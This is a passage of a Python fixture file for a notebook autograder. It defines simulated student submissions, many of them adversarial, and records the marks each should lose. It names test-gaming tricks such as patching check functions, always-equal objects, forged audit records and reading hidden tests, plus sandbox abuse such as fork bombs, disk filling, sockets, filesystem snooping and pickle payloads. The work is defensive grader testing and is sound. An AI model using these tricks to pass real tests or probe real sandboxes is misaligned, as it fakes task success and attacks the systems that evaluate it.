             extra_cells={"q3_channel_means_answer": 'print("spam " * (10 * 2**20))\n'}),
    _student("c13_warnings", "correct, but warns and writes to stderr",
             answers={"q4_tensor_bytes_answer": WARNS_ON_STDERR}),
    _student("c14_test_edited", "the q1 test cell replaced by pass, q1 wrong",
             answers=_wrong("q1_describe_answer"), change=_replace_source("q1_describe_tests", "pass\n"),
             loses=_tests("q1"), flag="test cell edited"),
    _student("c15_test_deleted", "the q2 test cell deleted, q2 wrong",
             answers=_wrong("q2_classify_error_answer"), change=_delete_cell("q2_classify_error_tests"),
             loses=_tests("q2"), flag="test cell deleted"),
    _student("c16_duplicate_cell", "the q3 answer cell pasted twice, the copy wrong",
             change=_duplicate_cell("q3_channel_means_answer", WRONG_01["q3_channel_means_answer"]),
             loses=_tests("q3"), flag="duplicate grade id"),
    # nbgrader turns the answer cell back into code; the student's own (correct) code then earns
    # its points, and the change is flagged for a look.
    _student("c17_cell_type_changed", "the q4 answer cell turned into markdown",
             change=_to_markdown("q4_tensor_bytes_answer"), loses=frozenset(), flag="cell type changed"),
    _student("c18_renamed_notebook", "the solution saved as my_work.ipynb",
             build=_build_renamed, loses=EVERYTHING, flag="renamed notebook"),
    _student("c19_missing_notebook", "only a README.txt", build=_build_missing,
             loses=EVERYTHING, flag="missing notebook"),
    _student("c20_extra_files", "the solution plus data.csv, notes.txt and a subfolder",
             build=_build_extra_files),
    _student("c21_invalid_json", "a truncated notebook file", build=_build_truncated,
             loses=EVERYTHING, flag="invalid notebook"),
    _student("c22_patch_checks", "replaces autograder.check_value, q4 and q5 wrong",
             answers=_wrong("q4_tensor_bytes_answer", "q5_same_after_rounding_answer"),
             extra_cells={"q3_channel_means_answer": PATCH_CHECKS},
             loses=_tests("q4", "q5"), flag="tampering"),
    _student("c23_patch_torch", "replaces torch.isclose/equal/allclose, q3 wrong",
             answers=_wrong("q3_channel_means_answer"),
             extra_cells={"q2_classify_error_answer": PATCH_TORCH_COMPARISONS},
             loses=_tests("q3"), flag="tampering"),
    _scanned("c24_always_equal", "q1 and q5 return objects that == anything", answers=ALWAYS_EQUAL,
             loses=_tests("q1", "q5")),
    _student("c25_input_transformer", "an input transformer turns later cells into pass, q3-q5 wrong",
             answers=_wrong("q3_channel_means_answer", "q4_tensor_bytes_answer", "q5_same_after_rounding_answer"),
             extra_cells={"q2_classify_error_answer": EVERY_LATER_CELL_PASSES},
             loses=_tests("q3", "q4", "q5"), flag="tampering"),
    _student("c26_custom_exception_handler", "a custom exception handler swallows errors, q2 wrong",
             answers=_wrong("q2_classify_error_answer"),
             extra_cells={"q1_describe_answer": SWALLOW_EXCEPTIONS},
             loses=_tests("q2"), flag="tampering"),
    _student("c27_hardcoded", "every item hard-coded to its visible checks", answers=HARDCODED_01,
             loses=_tests("q1", "q2", "q3", "q4", "q5")),
    _scanned("c28_reads_hidden_tests", "an extra cell hunts for the source notebook, q1 wrong",
             answers=_wrong("q1_describe_answer"), extra_cells=_read_hidden_tests, loses=_tests("q1")),
    _scanned("c29_network", "correct, and tries to open sockets",
             extra_cells={"q5_same_after_rounding_answer": TRY_NETWORK}),
    _student("c30_overwrite_files", "correct, and tries to overwrite the gradebook, release and a classmate",
             extra_cells=_overwrite_outside),
    _scanned("c37_fork_bomb", "correct, and forks until the process limit stops it",
             extra_cells={"q2_classify_error_answer": FORK_BOMB}),
    _student("c38_huge_file", "correct, and writes a 200 MB file past the file-size limit",
             extra_cells={"q3_channel_means_answer": HUGE_FILE}),
    # A student who has read the grader
    _student("c39_links_and_fifo", "the solution, links to the source notebook and the course, a FIFO",
             build=_build_links, flag="refused file"),
    _student("c40_hide_tracebacks", "replaces the shell's showtraceback, q3 wrong",
             answers=_wrong("q3_channel_means_answer"), extra_cells={"q2_classify_error_answer": HIDE_TRACEBACKS},
             loses=_tests("q3"), flag="tampering"),
    _student("c41_swap_check_code", "swaps check_value's __code__ (same object), q4 and q5 wrong",
             answers=_wrong("q4_tensor_bytes_answer", "q5_same_after_rounding_answer"),
             extra_cells={"q3_channel_means_answer": SWAP_CHECK_CODE}, loses=_tests("q4", "q5"), flag="tampering"),
    _student("c42_clear_errors", "a post_run_cell callback clears errors, q2 wrong",
             answers=_wrong("q2_classify_error_answer"), extra_cells={"q1_describe_answer": CLEAR_ERRORS},
             loses=_tests("q2"), flag="tampering"),
    # These two forge the evidence a kernel's checks write, with the audit blinded. q4 and q5 are
    # judged in the grader (classgrader/judging/judge.py): no check runs in the kernel, so there is
    # nothing to forge, and the wrong answers score 0.
    _scanned("c43_silent_forger", "check_value made a no-op and the audit blinded, q4 and q5 wrong",
             answers=_wrong("q4_tensor_bytes_answer", "q5_same_after_rounding_answer"),
             extra_cells={"q3_channel_means_answer": SILENT_FORGER}, loses=_tests("q4", "q5")),
    _scanned("c44_expected_forger", "records its wrong answers as expected, audit blinded, q4 and q5 wrong",
             answers=_wrong("q4_tensor_bytes_answer", "q5_same_after_rounding_answer"),
             extra_cells={"q3_channel_means_answer": EXPECTED_FORGER}, loses=_tests("q4", "q5")),
    # Read the test from inside the student's process, patching nothing: only a test that never
    # runs there stops them.
    _scanned("c49_frame_peeker", "q3 returns the `expected` it finds in its caller's frame",
             answers=FRAME_PEEKER, loses=_tests("q3")),
    _scanned("c50_reads_test_code", "an audit hook sets each quiz answer from the test's code, all four wrong",
             answers=WRONG_QUIZ, extra_cells={"q1_describe_answer": READS_TEST_CODE},
             loses=_tests("quiz_q1_tests", "quiz_q2_tests", "quiz_q3_tests", "quiz_q4_tests")),
    # The grader's calls into a student's function (a test judged outside) meet the same
    # recovery as cells: a kernel that dies or hangs while answering costs that test only.
    _scanned("c51_exits_when_called", "describe() ends the kernel when the grader calls it",
             answers={"q1_describe_answer": "import os\ndef describe(t):\n    os._exit(3)\n"}, loses=_tests("q1")),
    _student("c52_hangs_when_called", "classify_error() answers its Try-it, then never returns (the grader's call)",
             answers={"q2_classify_error_answer": HANGS_WHEN_CALLED_AGAIN}, loses=_tests("q2")),
    _scanned("c45_plant_links", "correct, leaves links where root once wrote, moves the record folder",
             extra_cells={"q5_same_after_rounding_answer": PLANT_LINKS}),
    _scanned("c46_daemon", "correct, and leaves a double-forked setsid process behind",
             extra_cells={"q1_describe_answer": DAEMON}),
    _student("c47_fill_disk", "correct, fills its disk with 1 MiB files, then its inodes",
             extra_cells={"q4_tensor_bytes_answer": FILL_DISK}, flag="disk quota"),
    _scanned("c48_snoop", "correct, and lists /root, /home, /etc, /var, /work and /proc (naming /proc is flagged)",
             extra_cells={"q2_classify_error_answer": SNOOP}),
    # A student who has read the judge: what crosses from the kernel is data, bounded, and a
    # kernel that stalls the grader's questions costs what it stalled.
    _scanned("c56_lying_tensor", "channel_means() returns a Tensor subclass whose detach() is empty, values wrong",
             answers=LYING_TENSOR, loses=_tests("q3")),
    _student("c57_expanding_record", "correct, and drops a record file of 2^64 shared references",
             extra_cells={"q1_describe_answer": EXPANDING_RECORD}, flag="tampering"),
    _scanned("c58_expanding_reply", "the answer server replies with 2^64 shared references",
             extra_cells={"q1_describe_answer": EXPANDING_REPLY}, loses=EVERYTHING),
    _student("c59_slow_then_hangs", "answers take half the cell timeout; describe() and classify_error() hang "
             "when the grader calls them", answers=_slow_then_hang(swallow=False, pause=2), loses=_tests("q1", "q2")),
    # Two tests judged in the grader (q2, q4) whose answers hang past every interrupt: each loses
    # the kernel while the grader asks it, the second time the rest of the notebook is not graded.
    _student("c60_hangs_past_interrupts", "classify_error() and tensor_bytes() hang when the grader calls them, "
             "swallowing every interrupt",
             answers=_slow_then_hang(swallow=True, pause=2,
                                     cells=("q2_classify_error_answer", "q4_tensor_bytes_answer")),
             loses=_tests("q2", "q4", "q5", "quiz_q1_tests", "quiz_q2_tests", "quiz_q3_tests", "quiz_q4_tests"),
             flag="not graded in full"),
    # 04_autograd
    _student("c31_autograd_correct", "the reference solution", assignment=AUTOGRAD),
    _scanned("c32_autograd_kernel_death", "os._exit(1) after the q2 definition", assignment=AUTOGRAD,
             build=_reference_with(AUTOGRAD, "q2_intermediate_grad_answer", after=KILL_KERNEL),
             loses={"q2_intermediate_grad_tests"}),
    _student("c33_autograd_patch_torch", "replaces torch.isclose/equal/allclose, q4 wrong",
             assignment=AUTOGRAD,
             answers={"q4_manual_grad_answer": '''
def manual_grad(x, w, b):
    pred = x @ w + b
    n = x.shape[0]
    return x.T @ pred / n, pred.sum() / n  # forgot the 2 of the square's derivative
'''},
             extra_cells={"q4_manual_grad_answer": PATCH_TORCH_COMPARISONS},
             loses={"q4_manual_grad_tests"}, flag="tampering"),
    # Tests that must watch the student's process still run there, each paired with
    # its shadow, the value checks the grader makes itself: the kernel's word alone earns nothing.
    _student("c53_peeks_in_kernel_test", "intermediate_grad() returns the `expected` of a test run in its kernel",
             assignment=AUTOGRAD, answers=PEEKS_IN_KERNEL_TEST, loses={"q2_intermediate_grad_tests"},
             flag=SHADOW_CAUGHT),
    _student("c55_forges_a_graph_walk",
             "walk_graph() counts shared nodes twice; check_value records what was expected (audit blinded)",
             assignment=AUTOGRAD, answers=WALKS_A_TREE, extra_cells={"q1_walk_graph_answer": VALUE_AS_EXPECTED},
             loses={"q1_walk_graph_tests"}, flag=SHADOW_CAUGHT),
    # 06_modules
    # Its forged check_tensor takes no wrong_kinds=, which 06's q1 test passes: its own forgery fails q1.
    _student("c54_forges_kernel_records", "check_tensor records results as expected (audit blinded), MLP wrong",
             assignment=MODULES, answers=RELU_AFTER_EVERY_LAYER, extra_cells={"q1_running_norm_answer": TENSOR_FORGER},
             loses={"q2_mlp_tests", "q1_running_norm_tests"}, flag=SHADOW_CAUGHT),
    _student("c34_modules_correct", "the reference solution", assignment=MODULES),
    _student("c35_modules_alternative", "correct, written differently", assignment=MODULES,
             answers=_answers(unit06, "alternative_a")),
    _student("c36_modules_infinite_loop", "MLP.forward never returns", assignment=MODULES,
             answers={"q2_mlp_answer": '''
class MLP(nn.Module):
    def __init__(self, sizes):
        super().__init__()
        self.layers = nn.ModuleList(nn.Linear(a, b) for a, b in zip(sizes[:-1], sizes[1:]))

    def forward(self, x):
        while True:  # meant to stop "when it converges"
            pass
'''}, loses={"q2_mlp_tests"}),
    # The lying tensor in the other units it reaches: wrong values behind a detach() that lies.
    _scanned("c61_autograd_lying_tensor", "intermediate_grad() returns a Tensor subclass whose detach() is empty, "
             "values wrong", assignment=AUTOGRAD, answers=LYING_GRAD, loses={"q2_intermediate_grad_tests"}),
    # Facts only the kernel holds, forged there: the wrong code passes the kernel's own probes
    # once they are rewritten (through a function of the student's, naming no module where it
    # assigns) and the audit's own notes of the originals with them. The values are right; where
    # no check from outside can tell, the marks stand, flagged by the reading of the code. What
    # autograd kept is memory, which the grader reads from outside: the 05 forgers lose those tests.
    _scanned("c63_device_forger", "pick_device() tries mps before cuda; pretend_accelerators rigged to hide it",
             assignment=DEVICES, answers={"q1_pick_device_answer": MPS_FIRST},
             extra_cells={"q1_pick_device_answer": RIG_PRETENDING}),
    _scanned("c64_evaluate_forger", "evaluate() records every graph; the saved-tensor probe blinded to hide it, "
             "the memory it kept seen from outside", assignment=NO_GRAD,
             answers={"q1_evaluate_answer": EVALUATE_RECORDING},
             extra_cells={"q1_evaluate_answer": BLIND_PROBE}, loses={"q1_evaluate_tests"}),
    _scanned("c66_train_epoch_forger", "train_epoch() keeps every batch's graph alive; the graph-leak probe blinded "
             "to hide it, the memory it kept seen from outside", assignment=NO_GRAD,
             answers=_answers(unit05, "running_loss_tensor"),
             extra_cells={"q2_train_epoch_answer": BLIND_LEAK_PROBE}, loses={"q2_train_epoch_tests"}),
    # Its rigged check records nothing, so the test that holds only that check recorded nothing:
    # 0 for it. Q2's other test, whose values are right on a CPU, keeps its marks, flagged.
    _scanned("c67_checkpoint_forger", "load_checkpoint() builds the optimiser before .to(); pitfall_if rigged to "
             "hide it", assignment=CHECKPOINTS, answers={"q2_load_checkpoint_answer": LOAD_OPTIMIZER_FIRST},
             extra_cells={"q2_load_checkpoint_answer": QUIET_PITFALL}, loses={"q2_optimizer_parameters_tests"}),
    _scanned("c65_devices_lying_tensor", "move_to() moves nothing; the tensors it returns say they are on the "
             "device asked for", assignment=DEVICES, answers=LYING_MOVE, loses={"q2_move_to_tests"}),
    _scanned("c62_modules_lying_tensor", "MLP.forward returns a Tensor subclass whose detach() is empty, ReLU last",
             assignment=MODULES, answers=LYING_MLP, loses={"q2_mlp_tests"}),
    # Routes past a reading that lists means: each construct is off the list of what an answer
    # uses, so the notebook is flagged; where the probes judge what happened, the wrong answer
    # scores 0 too. The rigs that run from a file keep the kernel's word on 02 and 08 (flagged).
    # The references of the units these routes reach: what the probes judge, an honest answer passes.
    _student("c76_no_grad_correct", "the reference solution", assignment=NO_GRAD),
    _student("c77_capstone_correct", "the reference solution", assignment=CAPSTONE),
    _scanned("c68_pickle_module_payload", "load_checkpoint() builds the optimiser before .to(); torch.load with a "
             "pickle module runs a shipped payload that rigs pitfall_if", assignment=CHECKPOINTS,
             build=_with_files(CHECKPOINTS, {"q2_load_checkpoint_answer": LOAD_OPTIMIZER_FIRST},
                               {"q2_load_checkpoint_answer": LOAD_WITH_PICKLE},
                               {"weights.pt": lambda: _payload(QUIET_PITFALL)}),
             loses={"q2_optimizer_parameters_tests"}),
    _scanned("c69_environment_payload", "pick_device() tries mps first; TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD lets a "
             "shipped payload rig pretend_accelerators", assignment=DEVICES,
             build=_with_files(DEVICES, {"q1_pick_device_answer": MPS_FIRST},
                               {"q1_pick_device_answer": LOAD_WITH_ENVIRONMENT},
                               {"weights.pt": lambda: _payload(RIG_PRETENDING)})),
    _scanned("c70_hub_payload", "evaluate() records; torch.hub.load imports a shipped hubconf.py that blinds the "
             "saved-tensor probe", assignment=CAPSTONE,
             build=_with_files(CAPSTONE, {"q3_evaluate_answer": EVALUATE_08_RECORDING},
                               {"q3_evaluate_answer": LOAD_FROM_HUB},
                               {"hubconf.py": HUBCONF_BLINDS_SAVED_TENSORS.encode()})),
    _scanned("c71_update_wrapper", "evaluate() records; functools.update_wrapper writes fake saved-tensor hooks "
             "into torch.autograd", assignment=CAPSTONE, answers={"q3_evaluate_answer": EVALUATE_08_RECORDING},
             extra_cells={"q3_evaluate_answer": WRITE_THROUGH_UPDATE_WRAPPER},
             loses={"q3_evaluate_tests", "q4_run_tests"}),  # its fake torch.autograd.graph breaks run() too
    _scanned("c72_checkpoint_evaluate", "evaluate() records under torch.utils.checkpoint, which hides its saved "
             "tensors", assignment=NO_GRAD, answers={"q1_evaluate_answer": EVALUATE_CHECKPOINTED},
             loses={"q1_evaluate_tests"}),
    _scanned("c73_checkpoint_evaluate", "evaluate() records under torch.utils.checkpoint, which hides its saved "
             "tensors", assignment=CAPSTONE, answers={"q3_evaluate_answer": EVALUATE_08_CHECKPOINTED},
             loses={"q3_evaluate_tests"}),
    _scanned("c74_clears_probe_evidence", "train_epoch() keeps every graph and clears the leak probe's evidence "
             "list through the loss function", assignment=CAPSTONE,
             answers={"q2_train_epoch_answer": TRAIN_08_CLEARS_EVIDENCE}, loses={"q2_train_epoch_tests"}),
    _scanned("c75_spare_memory", "train_epoch() keeps every graph, clears the probe's evidence, and lets 384 MiB "
             "of spare memory go as it starts", assignment=NO_GRAD,
             answers={"q2_train_epoch_answer": TRAIN_05_BALLAST}, loses={"q2_train_epoch_tests"}),
]

BY_ID = {s.student: s for s in STUDENTS}

# Seconds a cell when the class is graded: the infinite loops cost this much each (the longest
# honest cell takes about 1 s).
CELL_TIMEOUT = 5


def submit(course: Path, students: list[ClassStudent]) -> None:
    """The class handed in: the course's cell timeout set to CELL_TIMEOUT, and each student's
    submission written where nbgrader collects it."""
    with open(Path(course) / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.Execute.timeout = {CELL_TIMEOUT}\n")
    for student in students:
        folder = Path(course) / "runtime" / "submitted" / student.student / student.assignment
        folder.mkdir(parents=True)
        student.build(folder, course)
